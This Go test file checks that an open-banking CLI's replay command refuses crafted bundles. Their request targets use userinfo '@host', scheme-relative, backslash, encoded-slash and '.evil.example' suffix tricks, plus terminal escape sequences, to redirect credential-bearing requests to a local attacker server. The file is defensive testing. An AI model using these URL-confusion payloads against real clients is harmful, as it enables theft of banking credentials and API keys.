package main_test

// Hostile files through the built binary: a crafted bundle that would send
// the live credentials elsewhere, a crafted request file whose curl command
// runs something, a symlink planted where the state goes.

import (
	"crypto/tls"
	"encoding/json"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/xs2a-dev/xs2a/pkg/bundle"
)

// catcher is a TLS server the attacker runs, with a certificate the
// client trusts (the sandbox's own, valid for 127.0.0.1): whatever reaches
// it is recorded. A credential sent here is a credential stolen.
type catcher struct {
	srv   *httptest.Server
	mu    sync.Mutex
	conns int
	reqs  []string
}

func startCatcher(t *testing.T, b *bank) *catcher {
	t.Helper()
	c := &catcher{}
	cert, err := tls.X509KeyPair(b.s.Certs.Server.CertPEM(), b.s.Certs.Server.KeyPEM())
	if err != nil {
		t.Fatal(err)
	}
	c.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.reqs = append(c.reqs, r.Method+" "+r.URL.String()+" Authorization="+r.Header.Get("Authorization")+
			" Consent-ID="+r.Header.Get("Consent-ID")+" X-API-Key="+r.Header.Get("X-API-Key"))
		c.mu.Unlock()
		w.WriteHeader(200)
	}))
	c.srv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}, ClientAuth: tls.RequestClientCert}
	c.srv.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			c.mu.Lock()
			c.conns++
			c.mu.Unlock()
		}
	}
	c.srv.StartTLS()
	t.Cleanup(c.srv.Close)
	return c
}

func (c *catcher) addr() string { return c.srv.Listener.Addr().String() }

func (c *catcher) caught() (int, []string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.conns, append([]string(nil), c.reqs...)
}

// writeBundle writes exchanges as a --record directory would hold them.
func writeBundle(t *testing.T, dir string, exs map[string]*bundle.Exchange) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	for name, e := range exs {
		b, err := json.MarshalIndent(e, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

func apiExchange(baseURL, url, target string) *bundle.Exchange {
	return &bundle.Exchange{Format: bundle.Format, Kind: bundle.KindAPI, BaseURL: baseURL,
		Request:  bundle.Request{Method: "GET", URL: url, Target: target, Headers: []bundle.Field{{Name: "Accept", Value: "application/json"}, {Name: "PSU-IP-Address", Value: "192.0.2.10"}}},
		Response: &bundle.Response{Status: 200}}
}

func TestReplayNeverLeavesTheProfileOrigin(t *testing.T) {
	needCurl(t)
	u := authorizedUser(t)
	c := startCatcher(t, u.b)
	base := u.b.s.URL
	evil := c.addr()
	hostile := map[string]*bundle.Exchange{
		"userinfo":           apiExchange(base, "", "@"+evil+"/v1/accounts"),
		"userinfo, consents": apiExchange(base, "", "@"+evil+"/v1/consents/x/status"), // the API key

		"host suffix":        apiExchange(base, "", ".evil.example/v1/accounts"),
		"scheme-relative":    apiExchange(base, "", "//"+evil+"/v1/accounts"),
		"backslashes":        apiExchange(base, "", `/\`+evil+"/v1/accounts"),
		"absolute":           apiExchange(base, "", "https://"+evil+"/v1/accounts"),
		"encoded slashes":    apiExchange(base, "", "/%2F%2F"+evil+"/v1/accounts"),
		"dot segments":       apiExchange(base, "", "/v1/../../v1/accounts"),
		"control characters": apiExchange(base, "", "/v1/accounts\x1b]0;pwned\x07"),
		// No target: the URL's path is used, relative to the recorded
		// base_url, which is the attacker's to choose too.
		"url only": apiExchange("", "@"+evil+"/v1/accounts", ""),
	}
	for name, e := range hostile {
		t.Run(name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "bundle")
			rec := filepath.Join(t.TempDir(), "rec")
			// A good exchange first: nothing may be sent, not even it.
			writeBundle(t, dir, map[string]*bundle.Exchange{
				"001-good.json":             apiExchange(base, base+"/v1/accounts", "/v1/accounts"),
				"002-\x1b[31mevil\x07.json": e,
			})
			r := u.run("replay", dir, "--record", rec)
			oneErrorLine(t, "replay of "+name, r, 2, `002-\x1b[31mevil\x07.json`, "base_url")
			if strings.Contains(r.stderr, "\x1b") {
				t.Errorf("raw ESC on stderr: %q", r.stderr)
			}
			if n, reqs := c.caught(); n > 0 || len(reqs) > 0 {
				t.Errorf("the catcher got %d connection(s): %q", n, reqs)
			}
			if got, _ := filepath.Glob(filepath.Join(rec, "*.json")); len(got) > 0 {
				t.Errorf("replay sent %d exchange(s) before refusing: %v", len(got), got)
			}
		})
	}
	// The good exchange alone replays: the check refuses only what leaves.
	dir := filepath.Join(t.TempDir(), "good")
	writeBundle(t, dir, map[string]*bundle.Exchange{"001.json": apiExchange(base, base+"/v1/accounts", "/v1/accounts?withBalance=true")})
	if r := u.run("replay", dir); r.code != 0 {
		t.Errorf("replay of a good bundle: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
}
